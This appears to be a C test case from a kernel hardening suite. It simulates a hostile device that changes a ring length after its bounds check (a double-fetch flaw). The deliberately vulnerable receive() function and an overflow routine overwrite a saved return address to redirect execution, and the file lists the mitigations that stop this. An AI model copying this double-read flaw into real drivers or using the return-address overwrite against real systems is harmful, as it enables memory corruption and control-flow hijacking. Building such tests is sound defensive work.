/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Time of check, time of use, of what a device says: a length in a ring is checked, the device is told by a register
 * that it was seen, and the length is read again. The device has changed it by then.
 */
#include "attacks.h"

#include <kernel/regs.h>

#define ACKNOWLEDGE 8

struct descriptor {
	uint32_t len;
	uint8_t data[252];
};

static volatile struct descriptor ring; /* what the two share */
static uint32_t len_afterwards; /* what the device makes of it; 0: nothing */
static struct attack_frame frame;

static void device_write(const struct regs *regs, size_t offset, unsigned bytes, uint64_t value)
{
	if (offset == ACKNOWLEDGE && len_afterwards)
		ring.len = len_afterwards;
}

static uint64_t device_read(const struct regs *regs, size_t offset, unsigned bytes)
{
	return 0;
}

static const struct regs_ops device_ops = { device_read, device_write };
static const struct regs device = { .ops = &device_ops, .size = 64 };

/* The mistake: the length is read twice. */
static NOINLINE int receive(void)
{
	uint8_t packet[64] = { 0 };
	uint8_t *bytes = attack_opaque(&packet[0]);

	attack_frame_note(&frame, packet);
	if (ring.len > sizeof(packet))
		return -EINVAL;
	regs_write32(&device, ACKNOWLEDGE, 1);
	memcpy(bytes, (const uint8_t *)ring.data, ring.len);
	return bytes[0];
}

static void send(const void *data, size_t size, uint32_t len, uint32_t afterwards)
{
	memcpy((uint8_t *)ring.data, data, size);
	ring.len = len;
	len_afterwards = afterwards;
}

static bool benign(const struct attack *attack)
{
	bool right;

	send("a", 1, 1, 0);
	right = receive() == 'a';
	send("b", 1, 65, 0);
	return right && receive() == -EINVAL;
}

static void overflow(const struct attack *attack, uintptr_t slide)
{
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	uint8_t data[248] = { 0 };

	benign(attack);
	memcpy(data + frame.to_return, &goal, sizeof(goal));
	send(data, sizeof(data), 1, (uint32_t)frame.to_return + sizeof(goal));
	attack_primitive(attack);
	receive();
}
ATTACK_BODY(overflow)

ATTACK(toctou_ring, .family = "time of check", .primitive = HOSTILE_DEVICE, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "stackprotector shadowstack layout", .about = "a device changes a length after its check",
       .run = run, .benign = benign, .adaptive = adaptive);
